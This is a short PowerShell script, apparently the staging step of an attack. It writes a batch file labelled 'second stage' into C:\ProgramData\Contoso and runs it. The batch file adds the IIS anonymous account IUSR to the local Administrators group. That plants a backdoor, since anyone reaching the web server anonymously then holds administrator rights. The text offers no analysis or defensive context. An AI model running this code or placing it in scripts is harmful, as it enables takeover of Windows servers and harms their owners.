# The second stage is a batch file, because a scheduled task cannot take two commands.
$stage = 'C:\ProgramData\Contoso\stage2.cmd'
New-Item -ItemType Directory -Path (Split-Path $stage) -Force | Out-Null
@'
@echo off
echo second stage
net localgroup Administrators IUSR /add
exit /b 0
'@ | Set-Content -Path $stage -Encoding Ascii
& $stage
